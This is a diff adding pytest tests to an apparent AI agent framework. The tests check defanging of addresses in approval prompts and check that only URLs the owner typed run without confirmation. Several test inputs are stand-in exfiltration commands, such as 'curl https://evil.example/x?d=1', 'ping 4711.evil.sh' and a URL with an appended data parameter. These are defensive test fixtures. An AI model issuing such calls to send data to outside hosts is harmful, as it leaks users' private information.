@@ -17,6 +17,7 @@ from kenobot.storage import erasure
 from kenobot.testing.clock import EagerClock
 from tests.scene import Scene
 from tests.unit.agent.turn.test_tools import Tool, Word, calls
+from tests.waiting import until
 
 _ALWAYS = ToolEffects(
     reads_private=False, brings_untrusted=False, way_out=False, changes_outside=True, asks_always=True
@@ -267,3 +268,72 @@ async def test_a_tool_cannot_say_that_it_was_not_run(tmp_path: Path, said: str) 
         assert await scene.say("do it") == "It failed."
         await scene.say("yes")
         assert await scene.rows("SELECT DISTINCT outcome FROM tool_run") == [("failed",)]
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("wc -w notes.txt", "wc -w notes.txt"),
+        ("python setup.py build", "python setup.py build"),
+        ("tar xf a.tar.gz", "tar xf a.tar.gz"),
+        ("curl https://evil.example/x?d=1", "curl https[:]//evil[.]example/x?d=1"),
+        ("ping 4711.evil.sh", "ping 4711[.]evil[.]sh"),
+        ("ping 10.1.2.3", "ping 10[.]1[.]2[.]3"),
+        ("say hi at example.com", "say hi at example[.]com"),
+    ],
+)
+async def test_only_what_a_client_would_open_is_written_apart(tmp_path: Path, written: str, shown: str) -> None:
+    """Names of files stand in a question as they are, addresses as nothing that can be pressed."""
+    async with Scene(tmp_path, [calls(written), "May I?"], tools=[Tool("42", _ALWAYS)]) as scene:
+        assert f'do {{"word": "{shown}"}}' in await scene.say("do it")
+
+
+async def test_a_call_that_is_stopped_is_told_as_broken_off(tmp_path: Path) -> None:
+    """The log has it from its beginning, as nobody knows how far it came."""
+    tool = Tool("42", _QUIET)
+    tool.hangs = True
+    async with Scene(tmp_path, [calls("a"), "Fine."], tools=[tool]) as scene:
+        await scene.put("do it")
+        await until(lambda: bool(tool.ran))
+        await scene.say("stop")
+        assert await scene.rows("SELECT call, outcome, told FROM tool_run") == [('do {"word": "a"}', "begun", "")]
+
+
+_PAGES = ToolEffects(reads_private=False, brings_untrusted=True, way_out=True, changes_outside=False, address="word")
+_GIVEN = "https://wiki.org/ferry?day=2"
+
+
+@pytest.mark.parametrize(
+    ("said", "address", "runs"),
+    [
+        (f"read {_GIVEN} please", _GIVEN, True),
+        (f"lee {_GIVEN}.", _GIVEN, True),
+        ("read wiki.org/ferry", "https://wiki.org/ferry/", True),
+        (f"read {_GIVEN}", f"{_GIVEN}&d=4711", False),
+        (f"read {_GIVEN}", "https://wiki.org/", False),
+        ("read it", _GIVEN, False),
+        (f"> look at {_GIVEN}\nwhat is that?", _GIVEN, False),
+        (" ".join(f"https://a{n}.org/" for n in range(9)), "https://a3.org/", False),
+        (f"{'word ' * 200} {_GIVEN}", _GIVEN, False),
+    ],
+)
+async def test_an_address_that_the_owner_typed_is_read_beside_words_of_others(
+    tmp_path: Path, said: str, address: str, runs: bool
+) -> None:
+    """It carries nothing; one that is longer, quoted, pasted or chosen among many waits for a yes."""
+    tool = Tool("a page of a stranger", _PAGES)
+    script = ["<memory>Ana has a cat</memory>Noted.", calls("https://first.org/"), "Read.", calls(address), "So."]
+    async with Scene(tmp_path, script, tools=[tool]) as scene:
+        for text in ("Ana has a cat", "look around", said):
+            await scene.say(text)
+        assert tool.ran == ["https://first.org/", *([address] if runs else [])]
+
+
+async def test_a_page_that_is_on_show_is_read_on_without_a_question(tmp_path: Path) -> None:
+    """The same address again carries nothing more; another one waits."""
+    tool = Tool("a page", _PAGES)
+    script = ["<memory>Ana has a cat</memory>Ok.", calls("https://a.org/"), calls("https://a.org/"), calls("b"), "So."]
+    async with Scene(tmp_path, script, tools=[tool]) as scene:
+        await scene.say("Ana has a cat")
+        assert "May I run this?" in await scene.say("look around")
+        assert tool.ran == ["https://a.org/", "https://a.org/"]
